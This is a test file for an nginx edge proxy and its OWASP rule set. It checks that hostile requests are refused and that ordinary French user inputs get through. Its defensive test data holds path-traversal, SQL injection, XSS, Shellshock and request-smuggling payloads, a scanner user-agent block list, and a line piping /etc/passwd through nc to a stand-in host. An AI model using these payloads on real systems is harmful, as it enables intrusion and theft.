import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { connect as connectTls } from 'node:tls';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { ask, postJson, raw, type Question } from './ask.ts';
import { startCapRoversNginx, startEdge, type Edge } from './edge.ts';
import { hasCoreRules, hasNginx } from './nginx.ts';

/** What is behind: it answers everything, so that whatever is refused was refused in front of it. */
let router: Server;
let reached: { url: string; headers: IncomingMessage['headers']; body: string }[];
let edge: Edge;
let dawdler: Promise<{ said: string; lastsMs: number }>;

beforeAll(async () => {
  if (!hasNginx) return;
  router = createServer((asked, answer) => {
    void text(asked)
      .then((body) => {
        reached.push({ url: asked.url!, headers: asked.headers, body });
        answer.writeHead(200, {
          'content-type': 'application/json',
          'x-content-type-options': 'nosniff',
          'x-powered-by': 'us',
        });
        // A stream that does not end by itself.
        if (asked.url === '/api/flags/events') answer.write('data: one\n\n');
        else answer.end('{"status":"ok"}');
      })
      .catch(() => {});
  }).listen(0, '127.0.0.1');
  await once(router, 'listening');
  edge = await startEdge((router.address() as { port: number }).port);
  // Goes on while the other tests run.
  dawdler = raw(edge.port, 'GET / HTTP/1.1\r\nHost: api.rewapp.fr\r\nX-Slow: ');
});
beforeEach(() => (reached = []));
afterAll(async () => {
  await edge?.stop();
  router?.closeAllConnections();
  router?.close();
});

let visitors = 0;
/** Somebody new, whom no limit knows yet. */
const somebody = () => `203.0.113.${++visitors}`;
const tried = (question: Question) => ask(edge.port, somebody(), question);
/** What a limit lets through besides: its rate goes on while a slow machine asks. */
const secondsSince = (begunAt: number) => (performance.now() - begunAt) / 1_000;
const codeOf = (body: string) => (JSON.parse(body) as { code: string }).code;

describe.skipIf(!hasNginx)('the edge by nginx’s own rules', () => {
  test('lets a visitor through, tells what is behind who asks, and tells their browser what it must not do', async () => {
    const answer = await ask(edge.port, '203.0.113.200', { path: '/api/health?q=a..b' });
    expect(answer).toMatchObject({ status: 200, body: '{"status":"ok"}' });
    expect(reached[0]!.headers).toMatchObject({ 'x-forwarded-for': '203.0.113.200', 'x-real-ip': '203.0.113.200' });
    expect(answer.headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'strict-transport-security': expect.stringContaining('max-age=31536000'),
    });
    expect(answer.headers).not.toHaveProperty('x-powered-by');
    expect(answer.headers['server']).toBe('nginx');
  });

  test.each([
    '/../../etc/passwd',
    '/..%2f..%2fetc/passwd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/%252e%252e%252fetc/passwd',
    '/assets/..\\..\\windows/win.ini',
    '/a%00.html',
    '/%c0%ae%c0%ae/etc/passwd',
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/backup.sql',
  ])('refuses the path %s', async (path) => {
    const { status, headers } = await tried({ path });
    expect([400, 403]).toContain(status);
    // What is not a path at all is refused before nginx knows for whom it was.
    if (status === 403) expect(headers['x-frame-options']).toBe('DENY');
    expect(reached).toEqual([]);
  });

  test.each(['sqlmap/1.7', 'Mozilla/5.00 (Nikto/2.5.0)', 'Nuclei - Open-source project', 'masscan/1.3'])(
    'refuses the scanner that calls itself %s',
    async (agent) => {
      const { status, body } = await tried({ headers: { 'user-agent': agent } });
      expect([status, codeOf(body)]).toEqual([403, 'acces-refuse']);
    },
  );

  test.each(['TRACE', 'PUT', 'DELETE', 'PATCH', 'PROPFIND'])('refuses the method %s', async (method) => {
    expect((await tried({ method })).status).toBe(405);
    expect(reached).toEqual([]);
  });

  test('refuses a body that is too long, said or not, and takes a bank’s long one', async () => {
    const long = 'a'.repeat(200_000);
    const said = await tried({ ...postJson('/api/identity/login', {}), body: long });
    expect([said.status, codeOf(said.body)]).toEqual([413, 'champ-invalide']);
    expect((await tried({ ...postJson('/api/identity/login', {}), body: long, chunked: true })).status).toBe(413);
    expect(reached).toEqual([]);
    const bank = '/api/webhooks/powens/CONNECTION_SYNCED';
    expect((await tried(postJson(bank, { wording: 'a'.repeat(2_000_000) }))).status).toBe(200);
    expect((await tried({ ...postJson(bank, {}), body: Buffer.alloc(17 * 1024 * 1024, 'a') })).status).toBe(413);
  });

  test('closes on names that are not ours, in clear and before any certificate is shown', async () => {
    for (const port of [edge.port, edge.httpPort]) {
      expect((await raw(port, 'GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n')).said).toBe('');
    }
    const handshake = async (servername: string) => {
      const socket = connectTls({ host: '127.0.0.1', port: edge.tlsPort, servername, rejectUnauthorized: false });
      const outcome = once(socket, 'secureConnect').then(
        () => 'shown',
        (error: Error) => error.message,
      );
      // Once it has ended badly it may say so again.
      return outcome.finally(() => socket.on('error', () => {}).destroy());
    };
    expect(await handshake('evil.example')).toContain('unrecognized name');
    expect(await handshake('api.rewapp.fr')).toBe('shown');
  });

  test('sends port 80 on to HTTPS', async () => {
    const { status, headers } = await ask(edge.httpPort, somebody(), { path: '/api/health' });
    expect([status, headers.location]).toEqual([301, 'https://api.rewapp.fr/api/health']);
  });

  test('refuses a flood from one address in one sentence, and nobody else for it', async () => {
    const begunAt = performance.now();
    const answers = await Promise.all(Array.from({ length: 450 }, () => ask(edge.port, '198.51.100.1')));
    const refused = answers.filter(({ status }) => status === 429);
    expect(answers.length - refused.length).toBeLessThanOrEqual(201 + 50 * secondsSince(begunAt));
    expect(codeOf(refused[0]!.body)).toBe('trop-de-demandes');
    expect(refused[0]!.headers['retry-after']).toBe('5');
    expect((await ask(edge.port, '198.51.100.2')).status).toBe(200);
  });

  test('refuses guesses at passwords long before it is a flood', async () => {
    const guess = (index: number) =>
      postJson('/api/identity/login', { email: 'lea@exemple.fr', password: `guess-${index}` });
    const begunAt = performance.now();
    const answers = await Promise.all(
      Array.from({ length: 50 }, (_, index) => ask(edge.port, '198.51.100.3', guess(index))),
    );
    const through = answers.filter(({ status }) => status === 200).length;
    expect(through).toBeGreaterThanOrEqual(30);
    expect(through).toBeLessThanOrEqual(31 + secondsSince(begunAt));
    expect((await ask(edge.port, '198.51.100.3', { path: '/api/wallet/balance' })).status).toBe(200);
  });

  test('does not believe a visitor who says to come from inside', async () => {
    const forged = { headers: { 'x-forwarded-for': '10.0.0.1, 198.51.100.4' } };
    const answers = await Promise.all(Array.from({ length: 450 }, () => ask(edge.port, '', forged)));
    expect(answers.some(({ status }) => status === 429)).toBe(true);
  });

  test('counts nothing of what comes from inside', async () => {
    const answers = await Promise.all(Array.from({ length: 450 }, () => ask(edge.port, '10.0.0.9')));
    expect(answers.filter(({ status }) => status !== 200)).toEqual([]);
  });

  test('keeps figures for those inside', async () => {
    expect((await tried({ path: '/metrics' })).status).toBe(403);
    expect((await ask(edge.port, '10.0.0.9', { path: '/metrics' })).status).toBe(200);
  });

  test('hands on whatever an installed app reports, for it throws away what is refused', async () => {
    const reports = [{ action: 'update_fail', metadata: { message: "<script>alert(1)</script> ' OR '1'='1" } }];
    const answer = await tried(postJson('/live-update/production/stats', reports));
    expect([answer.status, reached[0]!.url]).toEqual([200, '/live-update/production/stats']);
    expect(JSON.parse(reached[0]!.body)).toEqual(reports);
  });

  test('hands on a stream as it comes', async () => {
    const answer = await fetch(`http://127.0.0.1:${edge.port}/api/flags/events`);
    const reader = answer.body!.getReader();
    expect(Buffer.from((await reader.read()).value!).toString()).toBe('data: one\n\n');
    await reader.cancel();
  });

  test('lets go of whoever dawdles over their headers', async () => {
    const { said, lastsMs } = await dawdler;
    expect(said).not.toContain('200');
    expect(lastsMs).toBeLessThan(20_000);
  });
});

describe.skipIf(!hasNginx)('CapRover’s nginx with our lines in its base configuration', () => {
  test('limits all of its apps alike, and still takes what an app lets through', async () => {
    const nginx = await startCapRoversNginx((router.address() as { port: number }).port);
    try {
      const flood = Array.from({ length: 450 }, () => ask(nginx.port, '198.51.100.5'));
      expect((await Promise.all(flood)).some(({ status }) => status === 429)).toBe(true);
      const guess = postJson('/api/identity/login', {});
      const guesses = Array.from({ length: 50 }, () => ask(nginx.port, '198.51.100.6', guess));
      expect((await Promise.all(guesses)).some(({ status }) => status === 429)).toBe(true);
      const image: Question = { method: 'POST', path: '/api/v2/user/apps/appData/x', body: Buffer.alloc(1_000_000) };
      expect((await ask(nginx.port, '198.51.100.7', image)).status).toBe(200);
    } finally {
      await nginx.stop();
    }
  });
});

describe.skipIf(!hasCoreRules)('the edge by the OWASP core rules', () => {
  const query = (words: string): Question => ({ path: `/api/identity/users?search=${encodeURIComponent(words)}` });
  test.each<[string, Question]>([
    ['SQL in a query', query("' UNION SELECT email, password FROM users--")],
    ['SQL that is always true', query("1' OR '1'='1")],
    ['SQL that waits', query('1;SELECT pg_sleep(10)--')],
    ['a script in a query', query('<script>alert(document.cookie)</script>')],
    ['a file of the host', query('../../../../etc/passwd')],
    ['a command of a shell', query('; cat /etc/passwd | nc 203.0.113.1 4444')],
    ['an object of Node', query('require("child_process").exec("id")')],
    ['SQL in a body', postJson('/api/identity/signup', { displayName: "x'; DROP TABLE accounts;--" })],
    ['a script in a body', postJson('/api/identity/signup', { displayName: '<img src=x onerror=alert(1)>' })],
    ['Shellshock', { headers: { 'user-agent': '() { :;}; /bin/bash -c "id"' } }],
    ['two requests in one', query('a\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1')],
    ['more fields than anybody has', { path: `/api/health?${'a=1&'.repeat(1_200)}` }],
    [
      'SQL in a body of another kind of JSON',
      { ...postJson('/api/x', { a: "1' OR '1'='1" }), headers: { 'content-type': 'application/problem+json' } },
    ],
    ['a body that is not what it says', { ...postJson('/api/identity/login', {}), body: '{"email": ' }],
  ])('refuses %s', async (_name, question) => {
    const { status } = await tried(question);
    expect([400, 403]).toContain(status);
    expect(reached).toEqual([]);
  });

  const dashes = `${'a--b_'.repeat(12)}--`;
  // Found among some thousands drawn by chance: OWASP's rules take « .nsr » for a file of the system.
  const unlucky = 'RW1.nSrmCI7BEbn8_EAP1ocJ_SlB7Orn87Ha';
  test.each<[string, Question]>([
    ['names with an apostrophe', query("d'Artagnan O'Brien")],
    ['an address that is searched for', query('lea+test@exemple.fr')],
    [
      'a first name',
      postJson('/api/identity/signup', { email: 'a@b.fr', password: 'azerty-2026', displayName: "Léa de L'Haÿ" }),
    ],
    [
      'a password that looks like SQL',
      postJson('/api/identity/login', { email: 'a@b.fr', password: "' OR 1=1; DROP TABLE x--" }),
    ],
    ['a token of chance', postJson('/api/identity/refresh', { refreshToken: dashes })],
    ['a code of chance', postJson('/api/qr/redeem', { code: unlucky, amountCents: 1000 })],
    [
      'a device’s token',
      postJson('/api/notifications/devices', { token: `cY3${unlucky.slice(3)}:APA91b`, platform: 'web' }),
    ],
    ['a link from an e-mail', postJson('/api/account/email/verify', { token: dashes })],
    ['a return from a bank', postJson('/api/banking/return', { state: dashes, connectionId: '12' })],
    [
      'what a bank says',
      postJson('/api/webhooks/powens/CONNECTION_SYNCED', { wording: "CB L'ETAL; SELECT * FROM poisson--" }),
    ],
    ['a question about flags', postJson('/api/flags/ofrep/v1/evaluate/flags', { context: { targetingKey: 'e2b5' } })],
  ])('lets through %s', async (_name, question) => {
    expect((await tried(question)).status).toBe(200);
    expect(reached).toHaveLength(1);
  });

  test('writes down what it refused, but nothing of a body: that is where passwords are', async () => {
    const password = 'mot-de-passe-de-lea';
    await tried(postJson('/api/identity/login', { email: "x' OR '1'='1", password }));
    // nginx answers first and writes down afterwards.
    const logs = await vi.waitFor(async () => {
      const written = `${await edge.log('error.log')}${await edge.log('rewapp-edge.log')}`;
      expect(written).toContain('[id "949110"]');
      expect(written).toContain('"path":"/api/identity/login","status":403');
      return written;
    }, 10_000);
    expect(logs).not.toContain(password);
    expect(logs).not.toContain("' OR '1'");
  });
});
